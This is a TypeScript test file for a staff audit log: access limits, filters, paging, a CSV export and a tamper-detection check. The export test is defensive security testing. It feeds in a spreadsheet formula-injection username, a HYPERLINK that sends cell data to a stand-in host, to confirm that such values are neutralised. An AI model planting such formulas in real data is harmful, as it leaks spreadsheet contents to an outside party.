import t from 'tap';
import Database from 'better-sqlite3';
import { build, Client, errorSummary, heading, inputValue, login, title } from '../helpers.js';

const at = (iso: string) => new Date(iso);

/** The table's rows on an audit page: [event, when, who, what, reference] as text (without each cell's heading label for narrow screens). */
function tableRows(html: string): string[][] {
  const body = /<tbody[^>]*>([\s\S]*?)<\/tbody>/.exec(html)?.[1] ?? '';
  return [...body.matchAll(/<tr[^>]*>([\s\S]*?)<\/tr>/g)].map((row) =>
    [...row[1]!.matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map((cell) => cell[1]!.replace(/<span class="nhsuk-table__heading"[^>]*>[^<]*<\/span>/g, '').replace(/<span class="nhsuk-u-visually-hidden">[^<]*<\/span>/g, '').replace(/<[^>]+>/g, '').trim()),
  );
}

t.test('the audit pages are for team leads only, checked on the server', async (t) => {
  const { app } = await build(t);
  const { client: agent } = await login(app, 'agent');
  for (const url of ['/staff/audit', '/staff/audit/export.csv', '/staff/audit/verify']) {
    t.equal((await agent.get(url)).statusCode, 403, `agent: ${url}`);
    t.equal((await new Client(app).get(url)).statusCode, 303, `signed out: ${url} goes to sign-in`);
  }
  t.equal((await agent.post('/staff/audit/verify', {})).statusCode, 403, 'agent: running the check');
  t.notMatch((await agent.get('/staff/requests')).body, 'href="/staff/audit"', 'no link in an agent’s menu');
  const { client: lead } = await login(app, 'team-lead');
  t.match((await lead.get('/staff/requests')).body, 'href="/staff/audit"', 'a link in a team lead’s menu');
});

t.test('a team lead finds events by who, what, reference and day, newest first, each linked', async (t) => {
  const { app } = await build(t);
  const { client, user: lead } = await login(app, 'team-lead');
  const agent = { id: 'agent-1', username: 'alex.agent' };
  const events: [string, string, string | null, string][] = [
    ['request.viewed', 'alex.agent', 'CLN-ABC123', '2026-03-02T09:00:00Z'],
    ['request.viewed', 'alex.agent', 'CLN-DEF456', '2026-03-03T10:00:00Z'],
    ['triage.started', 'alex.agent', '3f1c2a70-0000-4000-8000-000000000001', '2026-03-03T23:30:00Z'],
    ['staff.disabled', lead.username, 'alex.agent', '2026-03-04T08:00:00Z'],
  ];
  for (const [action, who, reference, when] of events) {
    await app.audit(action as 'request.viewed', who === lead.username ? lead : agent, reference, { at: at(when) });
  }

  const byAgent = await client.get('/staff/audit?who=alex.agent');
  t.equal(byAgent.statusCode, 200);
  t.equal(heading(byAgent.body), 'Audit log');
  t.same(
    tableRows(byAgent.body).map((r) => [r[2], r[3], r[4]]),
    [
      ['alex.agent', 'Started a triage', '3f1c2a70-0000-4000-8000-000000000001'],
      ['alex.agent', 'Viewed a request in full', 'CLN-DEF456'],
      ['alex.agent', 'Viewed a request in full', 'CLN-ABC123'],
    ],
    'newest first',
  );
  t.match(byAgent.body, 'href="/staff/requests/CLN-DEF456"', 'a request reference links to the request');
  t.match(byAgent.body, 'href="/staff/triage/3f1c2a70-0000-4000-8000-000000000001"', 'a triage links to the triage');
  t.equal(inputValue(byAgent.body, 'who'), 'alex.agent', 'the filter stays filled in');

  const filters: [string, string[]][] = [
    ['action=staff.disabled', ['alex.agent']],
    ['reference=CLN-ABC123', ['CLN-ABC123']],
    // UK days: 23:30 UTC on 3 March is still 3 March in London (GMT).
    ['who=alex.agent&from=2026-03-03&to=2026-03-03', ['3f1c2a70-0000-4000-8000-000000000001', 'CLN-DEF456']],
  ];
  for (const [query, references] of filters) {
    const page = await client.get(`/staff/audit?${query}`);
    t.same(tableRows(page.body).map((r) => r[4]), references, query);
  }
  t.match((await client.get('/staff/audit?action=staff.disabled')).body, 'href="/staff/users#alex.agent"', 'a staff reference links to staff accounts');

  const viewed = await app.store.audit.search({ action: 'audit.viewed', username: lead.username, limit: 10 });
  t.equal(viewed.length, 5, 'every view of the audit log is itself recorded');
});

t.test('keyset pages: older events follow on with the filters kept, nothing repeated or skipped', async (t) => {
  const { app } = await build(t);
  const { client } = await login(app, 'team-lead');
  const agent = { id: 'agent-2', username: 'pat.pages' };
  for (let i = 0; i < 120; i++) await app.audit('request.viewed', agent, `CLN-${String(i).padStart(6, '0')}`);
  const seen: string[] = [];
  let url: string | undefined = '/staff/audit?who=pat.pages';
  while (url) {
    const page = await client.get(url);
    seen.push(...tableRows(page.body).map((r) => r[4]!));
    url = /<a class="nhsuk-pagination__link nhsuk-pagination__link--next" href="([^"]+)"/.exec(page.body)?.[1]?.replace(/&amp;/g, '&');
    if (url) t.match(url, /who=pat\.pages&before=\d+/);
  }
  t.equal(seen.length, 120);
  t.same(seen, Array.from({ length: 120 }, (_, i) => `CLN-${String(119 - i).padStart(6, '0')}`));
  t.equal((await client.get('/staff/audit?before=abc')).statusCode, 400, 'a cursor that is not a number');
});

t.test('filters that are not valid: 422, error summary, what was typed kept', async (t) => {
  const { app } = await build(t);
  const { client } = await login(app, 'team-lead');
  const page = await client.get('/staff/audit?who=sam&from=2026-02-30&to=2026-01-01');
  t.equal(page.statusCode, 422);
  t.match(title(page.body), /^Error: Audit log/);
  t.same(errorSummary(page.body), [{ href: '#from', message: 'Enter the start date as a real date, for example 2026-03-01' }]);
  t.equal(inputValue(page.body, 'who'), 'sam');
  const backwards = await client.get('/staff/audit?from=2026-03-02&to=2026-03-01');
  t.same(errorSummary(backwards.body), [{ href: '#to', message: 'The end date must be the same as or after the start date' }]);
  const unknown = await client.get('/staff/audit?action=made-up');
  t.same(errorSummary(unknown.body), [{ href: '#action', message: 'Select an action from the list' }]);
  t.equal((await client.get('/staff/audit?who=a&who=b')).statusCode, 400, 'a repeated field');
});

t.test('the CSV export: BOM, ISO 8601 times, formulas neutralised, filtered, and itself recorded', async (t) => {
  const { app } = await build(t);
  const { client, user: lead } = await login(app, 'team-lead');
  // Someone types a formula as the username at sign-in: it reaches the log as typed.
  const attacker = new Client(app);
  await attacker.get('/staff/sign-in');
  await attacker.post('/staff/sign-in', { username: '=HYPERLINK("http://x.example/?"&A1,"Click")', password: 'not the password' });
  for (const typed of ['+1+1', '-2', '@SUM(A1)', '\tTAB']) await app.audit('staff.sign-in-failed:unknown-username', null, typed);

  const response = await client.get('/staff/audit/export.csv?action=staff.sign-in-failed:unknown-username');
  t.equal(response.statusCode, 200);
  t.match(response.headers['content-type'], /^text\/csv; charset=utf-8/);
  t.match(response.headers['content-disposition'], /^attachment; filename="audit-log-\d{4}-\d{2}-\d{2}\.csv"$/);
  t.equal(response.rawPayload.subarray(0, 3).toString('hex'), 'efbbbf', 'starts with the UTF-8 byte-order mark');
  const lines = response.body.replace(/^\uFEFF/, '').trimEnd().split('\r\n');
  t.equal(lines[0], 'Sequence,"Time (UTC, ISO 8601)",Username,User id,Action,What happened,Reference,Hash');
  t.equal(lines.length, 6, 'the header and the 5 matching events');
  const references = lines.slice(1).map((line) => line.split(',').slice(6, -1).join(','));
  t.same(references, ["'\tTAB", "'@SUM(A1)", "'-2", "'+1+1", `"'=HYPERLINK(""http://x.example/?""&A1,""Click"")"`], 'every formula starts with a quote');
  t.match(lines[1], /^\d+,\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z,\(public\),,staff\.sign-in-failed:unknown-username,Failed sign-in: no account with that username,/);
  const exported = await app.store.audit.search({ action: 'audit.exported', limit: 5 });
  t.same(exported.map((e) => e.actor.username), [lead.username], 'the export is recorded');
});

t.test('the CSV export reads the log in batches: every one of 2,500 events, in order', async (t) => {
  const { app } = await build(t);
  const { client } = await login(app, 'team-lead');
  for (let i = 0; i < 2500; i++) await app.store.audit.record({ at: new Date(), actor: { userId: 'u', username: 'bulk' }, action: 'request.viewed', reference: `R${i}` });
  const lines = (await client.get('/staff/audit/export.csv?who=bulk')).body.trimEnd().split('\r\n');
  t.equal(lines.length, 2501);
  t.match(lines[1], ',R2499,');
  t.match(lines[2500], ',R0,');
});

t.test('checking the integrity: intact, then a change made in the database is named; each run recorded', async (t) => {
  const { app } = await build(t);
  const { client, user: lead } = await login(app, 'team-lead');
  for (let i = 0; i < 5; i++) await app.audit('request.viewed', lead, `CLN-${i}`);
  const form = await client.get('/staff/audit/verify');
  t.equal(heading(form.body), "Check the audit log's integrity");
  const intact = await client.post('/staff/audit/verify', {});
  t.equal(intact.statusCode, 200);
  t.equal(heading(intact.body), 'The audit log is intact');
  t.match(intact.body, /intact: events 1 to \d+/);

  const db = new Database(app.config.SQLITE_PATH);
  db.prepare("UPDATE audit_events SET reference = 'CLN-OTHER' WHERE reference = 'CLN-2'").run();
  const seq = (db.prepare("SELECT seq FROM audit_events WHERE reference = 'CLN-OTHER'").get() as { seq: number }).seq;
  db.close();
  await client.get('/staff/audit/verify');
  const changed = await client.post('/staff/audit/verify', {});
  t.equal(heading(changed.body), 'The audit log has been changed');
  t.match(changed.body, `The first event that does not match is event ${seq}`);
  t.match(changed.body, `Event ${seq} has been altered: its content no longer matches its hash.`);
  t.equal((await app.store.audit.search({ action: 'audit.verified', limit: 5 })).length, 2, 'each run is an event');
});

t.test('UK days in summer: a day starts at 23:00 UTC the evening before', async (t) => {
  const { app } = await build(t);
  const { client } = await login(app, 'team-lead');
  const agent = { id: 'agent-3', username: 'sam.summer' };
  await app.audit('request.viewed', agent, 'CLN-LATE-EVENING', { at: at('2026-07-01T22:30:00Z') }); // 23:30 on 1 July in London
  await app.audit('request.viewed', agent, 'CLN-JUST-AFTER', { at: at('2026-07-01T23:30:00Z') }); // 00:30 on 2 July in London
  const page = await client.get('/staff/audit?who=sam.summer&from=2026-07-02&to=2026-07-02');
  t.same(tableRows(page.body).map((r) => r[4]), ['CLN-JUST-AFTER']);
});
